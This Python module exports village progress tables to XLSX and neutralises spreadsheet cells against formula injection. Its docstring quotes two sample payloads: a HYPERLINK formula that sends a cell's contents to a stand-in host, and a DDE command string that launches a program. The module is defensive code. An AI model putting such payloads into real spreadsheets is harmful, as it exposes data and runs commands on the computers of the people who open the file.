"""XLSX files of the oversight screens: the progress of every village, the data-quality list.

Pure and synchronous: callers pass data already read (and ordered) and run these in a worker
thread after the commit (``handlers.kit.deferred``). openpyxl's write-only mode keeps memory flat;
identifiers are written as text cells so Excel never turns a NIK into ``1.80419E+15``, dates
as date cells shown ``DD-MM-YYYY``.

Every cell Kawal writes into a spreadsheet, XLSX or CSV, passes :func:`neutralise`: the one
guard against formula injection (OWASP "CSV injection"). A name, address or note typed as
``=HYPERLINK("http://x/?d="&D2,"klik")`` or ``+cmd|' /C calc'!A0`` reaches Dinsos' Excel as
text, never as a live formula.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from handlers.kit.i18n import t
from storage.repos.progress import GroupProgress, ProgressCounts, VillageProgress

__all__ = [
    "count_cells",
    "is_formula_like",
    "neutralise",
    "progress_table",
    "safe_row",
    "write_progress_xlsx",
    "write_sheets",
]

Sheet = tuple[str, Sequence[str], Iterable[Sequence[Any]]]


# What a spreadsheet reads as the start of a formula (also the full-width forms LibreOffice
# accepts), and the tab / carriage return that shift a CSV cell.
_FORMULA_LEAD = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_CONTROL_LEAD = frozenset("\t\r\n")
# Plain numbers and coordinates ("-5.123456, 104.123456"): a leading minus, but no function,
# reference or operator a formula could use.
_PLAIN_NUMBERS = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?(?:\s*,\s*-?[0-9]+(?:[.,][0-9]+)?)*")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula: it starts with ``= + - @``
    (also after leading blanks), a tab or a line break. Plain (negative) numbers are not."""
    if not text:
        return False
    if text[0] in _CONTROL_LEAD:
        return True
    stripped = text.lstrip()
    if not stripped or stripped[0] not in _FORMULA_LEAD:
        return False
    return not _PLAIN_NUMBERS.fullmatch(stripped)


def neutralise(value: Any, sheet: Any = None) -> Any:
    """The value of one spreadsheet cell, safe from formula injection.

    Without ``sheet`` (CSV): a formula-like string gets a leading ``'``, which Excel and
    LibreOffice show and never evaluate. With a write-only ``sheet`` (XLSX): a formula-like
    string becomes a text cell with Excel's quote prefix (editing it keeps it text). Anything
    else (numbers, dates, ordinary text) is returned unchanged and stays typed."""
    if not isinstance(value, str) or not is_formula_like(value):
        return value
    if sheet is None:
        return "'" + value
    from openpyxl.cell import WriteOnlyCell

    return _as_text(WriteOnlyCell(sheet, value=value))


def _as_text(cell: Any) -> Any:
    """An openpyxl cell shown and kept as text: a string cell with Excel's quote prefix."""
    cell.data_type = "s"  # openpyxl makes "=..." a formula ("f")
    cell.quotePrefix = True
    return cell


def safe_row(row: Iterable[Any], sheet: Any = None) -> list[Any]:
    """:func:`neutralise` over a row (``sheet``: the XLSX sheet it goes to; None for CSV)."""
    return [neutralise(value, sheet) for value in row]


def count_cells(counts: ProgressCounts) -> list[Any]:
    """The numbers of ``progress_xlsx_counts``, in its order."""
    return [
        counts.register,
        counts.verified,
        counts.updated,
        counts.not_found,
        counts.done,
        counts.pending,
        counts.done_pct,
        counts.proposals,
        counts.reports_open,
    ]


def _split(key: str, lang: str) -> list[str]:
    return t(key, lang).split("|")


def progress_table(
    villages: Sequence[VillageProgress], names: dict[str, str], lang: str, *, short: bool = False
) -> tuple[list[str], list[list[Any]]]:
    """Header and one row per village (in the order given): code, kecamatan, name, counts.
    ``short``: headers that fit a terminal."""
    counts = "progress_table_counts" if short else "progress_xlsx_counts"
    header = _split("progress_xlsx_village_columns", lang) + _split(counts, lang)
    rows = [
        [v.code, names.get(".".join(v.code.split(".")[:3]), ""), v.name, *count_cells(v.counts)]
        for v in villages
    ]
    return header, rows


def write_progress_xlsx(
    path: Path,
    villages: Sequence[VillageProgress],
    groups: Sequence[GroupProgress],
    names: dict[str, str],
    lang: str,
) -> Path:
    """Sheet 1: every village, then a total row; sheet 2 (when there are groups): per group."""
    village_sheet, group_sheet = _split("progress_xlsx_sheets", lang)
    header, rows = progress_table(villages, names, lang)
    total = ProgressCounts()
    for village in villages:
        total += village.counts
    rows.append(["", "", t("progress_xlsx_total", lang), *count_cells(total)])
    sheets: list[Sheet] = [(village_sheet, header, rows)]
    if groups:
        group_header = _split("progress_xlsx_group_columns", lang) + _split(
            "progress_xlsx_counts", lang
        )
        group_rows = [[g.code, g.name, g.villages, *count_cells(g.counts)] for g in groups]
        sheets.append((group_sheet, group_header, group_rows))
    return write_sheets(path, sheets)


DATE_FORMAT = "DD-MM-YYYY"  # how Indonesians write a date; Excel sorts and filters it as one


def write_sheets(path: Path, sheets: Sequence[Sheet]) -> Path:
    """One sheet per ``(title, header, rows)``, the header row bold and frozen. Strings stay
    text cells (a NIK is never turned into a number); a ``date`` (a calendar day, not a
    ``datetime``) becomes a real date cell shown as ``27-01-2027``; every string passes
    :func:`neutralise`."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title[:31])
        sheet.freeze_panes = "A2"
        cells = []
        for name in header:
            cell = WriteOnlyCell(sheet, value=name)
            if isinstance(name, str) and is_formula_like(name):
                _as_text(cell)
            cell.font = bold
            cells.append(cell)
        sheet.append(cells)
        for row in rows:
            values: list[Any] = []
            for value in row:
                if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
                    cell = WriteOnlyCell(sheet, value=value)
                    cell.number_format = DATE_FORMAT
                    value = cell
                values.append(neutralise(value, sheet))
            sheet.append(values)
    workbook.save(path)
    return path
